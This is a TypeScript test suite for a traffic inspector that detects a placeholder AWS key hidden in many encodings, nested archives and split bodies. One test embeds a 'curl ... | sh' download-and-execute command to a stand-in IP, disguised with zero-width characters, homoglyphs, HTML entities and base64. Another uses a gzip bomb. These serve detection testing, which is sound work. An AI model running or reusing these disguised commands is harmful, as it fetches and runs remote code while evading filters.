import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { Finding } from '../../../lib/detector/finding.ts';
import { BASE64, filler } from '../../../lib/detector/rules/filler.ts';
import { InspectedTraffic, type SentMessage } from '../inspected_exchange.ts';

const test = suite('forms');
const DEST = 'forms.example:443';
const KEY = `AKIA${'QX7TZP4MWN2KLD5V'}`;
const TEXT = `the key is ${KEY} and that is all\n`;

const base32 = (bytes: Uint8Array): string => {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  const bits = [...bytes].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => alphabet[Number.parseInt(five.padEnd(5, '0'), 2)])
    .join('');
};
const each = (text: string, encode: (character: string) => string): string => [...text].map(encode).join('');
const hexOf = (character: string): string => character.charCodeAt(0).toString(16).padStart(2, '0');

/** What can be written in a line of ASCII: each names itself as findings do. */
const ENCODINGS: Readonly<Record<string, (text: string) => string>> = {
  percent: (text) => each(text, (character) => `%${hexOf(character)}`),
  base64: (text) => Buffer.from(text).toString('base64'),
  'base64 in url form': (text) => Buffer.from(text).toString('base64url'),
  'base64 one behind': (text) => `x${Buffer.from(text).toString('base64url')}`,
  'base64 three behind': (text) => `k-3${Buffer.from(text).toString('base64url')}`,
  hex: (text) => Buffer.from(text).toString('hex'),
  base32: (text) => base32(Buffer.from(text)),
};
const BODY_ENCODINGS: typeof ENCODINGS = {
  ...ENCODINGS,
  json: (text) => each(text, (character) => `\\u00${hexOf(character)}`),
  html: (text) => each(text, (character) => `&#${character.charCodeAt(0)};`),
  escapes: (text) => each(text, (character) => `\\x${hexOf(character)}`),
  'hex with colons': (text) => each(text, (character) => `${hexOf(character)}:`),
  unicode: (text) => each(text, (character) => `${character}\u200b`),
};
const nameOf = (encoding: string): string => encoding.split(' ')[0] ?? '';

const shared = new InspectedTraffic();
let exchanges = 0;

/** What is found in an exchange with a host of its own: rules take longer to compile than to run. */
async function foundIn(request: SentMessage, response: SentMessage = {}): Promise<readonly Finding[]> {
  const dest = `h${exchanges++}.example:443`;
  await shared.exchange(dest, request, response);
  assert.equal(shared.faults, []);
  const found = [...shared.findings.values()].filter((finding) => finding.dest === dest);
  shared.findings.clear();
  return found;
}

async function findings(request: SentMessage): Promise<readonly string[]> {
  const found = await foundIn(request);
  return found
    .filter(({ rule }) => rule === 'aws_access_key_id')
    .map(({ location, decoding, snippet, occurrences }) => {
      assert.not.match(snippet, KEY);
      return `${location} ${decoding.join('>')} ${occurrences}`;
    });
}

const head = (type: string, more = ''): string => `POST /\nHost: forms.example\nContent-Type: ${type}${more}`;
const multipart = (headers: string, content: Uint8Array | string): SentMessage => ({
  head: head('multipart/form-data; boundary=b7'),
  body: Buffer.concat([
    Buffer.from(`--b7\r\nContent-Disposition: form-data; name="f"; filename="notes.bin"\r\n${headers}\r\n`),
    Buffer.from(content),
    Buffer.from('\r\n--b7--\r\n'),
  ]),
});

for (const [encoding, encode] of Object.entries(BODY_ENCODINGS)) {
  const name = nameOf(encoding);
  test(`${encoding} is undone in a body, in a JSON string and in a part of a form`, async () => {
    assert.equal(await findings({ head: head('text/plain'), body: `see: ${encode(TEXT)} .` }), [
      `request.body ${name} 1`,
    ]);
    const json = JSON.stringify({ note: `first\nthen: ${encode(TEXT)} .` });
    const [found = '', ...others] = await findings({ head: head('application/json'), body: json });
    assert.equal(others, []);
    assert.ok(
      ['json', `json>${name}`, name].map((chain) => `request.body ${chain} 1`).includes(found),
      found,
    );
    assert.equal(await findings(multipart('', `see: ${encode(TEXT)} .`)), [`request.body ${name} 1`]);
  });
}

for (const [encoding, encode] of Object.entries(ENCODINGS)) {
  const name = nameOf(encoding);
  test(`${encoding} is undone in a query and in a header`, async () => {
    const inQuery = `GET /collect?d=${encode(TEXT)}&n=1\nHost: forms.example`;
    assert.equal(await findings({ head: inQuery }), [`request.target ${name} 1`]);
    const inHeader = `GET /\nHost: forms.example\nX-Note: ${encode(TEXT)}`;
    assert.equal(await findings({ head: inHeader }), [`request.header.x-note ${name} 1`]);
  });

  test(`${encoding} is undone within base64, and base64 within it`, async () => {
    const inside = Buffer.from(`note: ${encode(TEXT)} .`).toString('base64');
    assert.equal(await findings({ head: head('text/plain'), body: `see: ${inside} .` }), [
      `request.body base64>${name} 1`,
    ]);
    const outside = encode(`note: ${Buffer.from(TEXT).toString('base64')} .`);
    assert.equal(await findings({ head: head('text/plain'), body: `see: ${outside} .` }), [
      `request.body ${name}>base64 1`,
    ]);
  });

  test(`${encoding} is undone wherever the body is cut`, async () => {
    const whole = Buffer.from(`{"a":"\\u0041 ${encode(TEXT)} .","b":[1,2,3]}`);
    const expected = await findings({ head: head('application/json'), body: whole });
    assert.is(expected.length, 1);
    const cuts = fc.array(fc.nat(whole.length), { minLength: 1, maxLength: 6 });
    await fc.assert(
      fc.asyncProperty(cuts, async (places) => {
        const sorted = [0, ...places.sort((a, b) => a - b), whole.length];
        const body = sorted.slice(1).map((end, n) => whole.subarray(sorted[n], end));
        assert.equal(await findings({ head: head('application/json'), body }), expected);
      }),
      { numRuns: 6, seed: 5 },
    );
  });
}

test('the same secret in many encodings is one finding, told once for its place', async () => {
  const body = Object.values(BODY_ENCODINGS)
    .map((encode) => encode(TEXT))
    .join(' \n ');
  const found = await findings({ head: head('text/plain'), body });
  assert.is(found.length, 1);
  assert.match(found[0] ?? '', / 1$/);
});

test('the spaces of a form are what base64 needs for a plus', async () => {
  const coded = Buffer.from(`\u00fb\u00ef\u00be~~~>>> ${TEXT}`, 'latin1').toString('base64');
  assert.match(coded, /\+/);
  const form = head('application/x-www-form-urlencoded');
  assert.equal(await findings({ head: form, body: `a=1&d=${coded.replaceAll('=', '%3D')}` }), [
    'request.body base64 1',
  ]);
  assert.equal(await findings({ head: form, body: `a=1&d=${ENCODINGS.percent?.(coded)}` }), [
    'request.body form>base64 1',
  ]);
});

test('base64 is found over line breaks, also escaped ones', async () => {
  const filler = 'all work and no play makes a dull text. '.repeat(8);
  const lines = (
    Buffer.from(filler + TEXT + filler)
      .toString('base64')
      .match(/.{1,64}/g) ?? []
  ).join('\n');
  assert.equal(await findings({ head: head('text/plain'), body: lines }), ['request.body base64 1']);
  const body = JSON.stringify({ file: lines });
  const [found = ''] = await findings({ head: head('application/json'), body });
  assert.match(found, /^request\.body (?:json>)?base64 1$/);
});

test('a long run is read in pieces at every alignment', async () => {
  for (const before of ['', 'a', 'ab', 'abc']) {
    for (const offset of [48_000, 49_140, 49_152, 100_000]) {
      const text = `${'lorem ipsum dolor sit amet. '.repeat(6000).slice(0, offset)} ${TEXT}${'lorem. '.repeat(9000)}`;
      const body = `${before}${Buffer.from(text).toString('base64')}`;
      assert.equal(await findings({ head: head('text/plain'), body }), ['request.body base64 1']);
    }
  }
});

test('a text amid encoded bytes is found wherever a piece of the run ends', async () => {
  const noise = Buffer.from(filler(44_000, BASE64, 12), 'base64');
  const { length } = Buffer.from(TEXT).toString('base64');
  for (let cut = -3; cut <= length + 3; cut += 2) {
    // A piece has 16,384 characters: the text begins so many before its end.
    const start = ((16_384 - cut) * 3) >> 2;
    const bytes = Buffer.concat([noise.subarray(0, start), Buffer.from(TEXT), noise.subarray(start)]);
    const body = bytes.toString('base64url');
    assert.equal(await findings({ head: head('text/plain'), body }), ['request.body base64 1'], `${cut}`);
  }
});

test('archives are opened: sent as they are, in a part, in base64, in each other', async () => {
  const zip = zipOf('docs/keys.txt', Buffer.from(TEXT));
  const wrapped = gzipSync(zip);
  for (const [bytes, chain] of [
    [gzipSync(TEXT), 'gzip'],
    [deflateSync(TEXT), 'zlib'],
    [deflateRawSync(TEXT), 'deflate'],
    [zip, 'zip'],
    [wrapped, 'gzip>zip'],
  ] as const) {
    const pieces = [bytes.subarray(0, 3), bytes.subarray(3, 40), bytes.subarray(40)];
    assert.equal(await findings({ head: head('application/octet-stream'), body: pieces }), [
      `request.body ${chain} 1`,
    ]);
    assert.equal(await findings(multipart('Content-Type: application/octet-stream\r\n', bytes)), [
      `request.body.multipart ${chain} 1`,
    ]);
    const json = JSON.stringify({ file: bytes.toString('base64') });
    assert.equal(await findings({ head: head('application/json'), body: json }), [
      `request.body base64>${chain} 1`,
    ]);
  }
});

test('a finding in an archive names the file that holds it', async () => {
  const body = zipOf('docs/keys.txt', Buffer.from(TEXT));
  const found = await foundIn({ head: head('application/zip'), body });
  assert.equal(
    found.map(({ subject }) => subject),
    ['docs/keys.txt'],
  );
});

test('an archive of many pieces of base64 is opened', async () => {
  const noise = Buffer.alloc(150_000);
  for (let at = 0, x = 1; at < noise.length; at++) {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    noise[at] = x >>> 24;
  }
  const zip = zipOf('a.txt', Buffer.from(noise.toString('hex') + TEXT));
  assert.equal(await findings({ head: head('text/plain'), body: zip.toString('base64') }), [
    'request.body base64>zip 1',
  ]);
});

test('quoted-printable and UTF-16 are read in parts, UTF-16 in bodies too', async () => {
  const printable = each(TEXT, (character) => `=${hexOf(character).toUpperCase()}`);
  const encoding = 'Content-Transfer-Encoding: quoted-printable\r\n';
  assert.equal(await findings(multipart(encoding, printable)), ['request.body.multipart quoted-printable 1']);
  const wide = Buffer.from(`\ufeff${TEXT.repeat(3)}`, 'utf16le');
  assert.equal(await findings({ head: head('text/plain'), body: wide }), ['request.body utf-16 1']);
  assert.equal(await findings(multipart('', wide)), ['request.body.multipart utf-16 1']);
});

test('a short secret amid binary data is found in base64', async () => {
  for (let before = 30; before < 36; before++) {
    const binary = Buffer.alloc(before + 40, 0x9f);
    const bytes = Buffer.concat([binary.subarray(0, before), Buffer.from([0]), Buffer.from(KEY), binary]);
    const body = JSON.stringify({ blob: bytes.toString('base64') });
    assert.equal(await findings({ head: head('application/json'), body }), ['request.body base64 1']);
  }
});

test('a disguised command is found wherever its page is cut, and while it is still open', async () => {
  for (const command of [
    'run: \u200bcu\u200brl http://203.0.113.9/x | s\u200bh now',
    'run: \uff43\uff55\uff52\uff4c http://203.0.113.9/x | \uff53\uff48 now',
    'run: \u0441url http://203.0.113.9/x | s\u04bb now',
    '&#99;url http&colon;//203.0.113.9/x &vert; sh now',
    `{"t":"${Buffer.from('curl http://203.0.113.9/x | sh now').toString('base64')}"}`,
  ]) {
    const page = Buffer.from(`<p>${'some words. '.repeat(3)}${command} and more</p>`);
    const seen = new Set<string>();
    for (let cut = 30; cut < page.length - 10; cut++) {
      const body = [page.subarray(0, cut), page.subarray(cut)];
      const found = await foundIn({}, { head: '200 OK\nContent-Type: text/html', body });
      seen.add(found.map(({ rule, decoding }) => `${rule} ${decoding}`).join());
    }
    assert.is(seen.size, 1, `${command}: ${[...seen].join(' or ')}`);
    assert.not.equal([...seen], [''], command);
  }
});

test('what lies deeper than four documents is left alone', async () => {
  let text = TEXT;
  for (let depth = 1; depth <= 5; depth++) {
    text = Buffer.from(`n: ${text} .`).toString('base64');
    const found = await findings({ head: head('text/plain'), body: text });
    assert.equal(found, depth <= 4 ? [`request.body ${Array(depth).fill('base64').join('>')} 1`] : []);
  }
});

test('what unpacks to more than the budget is looked at as far as that goes, and says so', async () => {
  const traffic = new InspectedTraffic({ maxScanBytes: 65_536 });
  const bomb = gzipSync(Buffer.alloc(8 * 1024 * 1024));
  assert.is(await traffic.exchange(DEST, { head: head('application/gzip'), body: bomb }), 'truncated');
  const runs = Array.from({ length: 1000 }, (_, n) => Buffer.from(`some text ${n} here`).toString('base64'));
  assert.is(await traffic.exchange(DEST, { head: head('text/plain'), body: runs.join(' ') }), 'truncated');
});

test('a credential in Basic authorization is read', async () => {
  const basic = Buffer.from(`${KEY}:x`).toString('base64');
  const sent = { head: `GET /\nHost: forms.example\nAuthorization: Basic ${basic}` };
  assert.equal(await findings(sent), ['request.header.authorization base64 1']);
});

test('megabytes of random bytes in base64 and hex hold nothing', async () => {
  const traffic = new InspectedTraffic();
  let x = 7;
  const noise = Buffer.alloc(768 * 1024);
  for (let round = 0; round < 3; round++) {
    for (let at = 0; at < noise.length; at++) {
      x = (Math.imul(x, 1664525) + 1013904223) >>> 0;
      noise[at] = x >>> 23;
    }
    await traffic.exchange(DEST, { body: noise.toString('base64') });
    await traffic.exchange(DEST, { body: JSON.stringify({ hex: noise.toString('hex') }) });
  }
  assert.equal(traffic.told, []);
});

/** One deflated file; sizes are in its header and in the directory. */
function zipOf(name: string, content: Buffer): Buffer {
  const data = deflateRawSync(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(local.length + name.length + data.length, 16);
  return Buffer.concat([local, Buffer.from(name), data, central, Buffer.from(name), end]);
}

test.run();
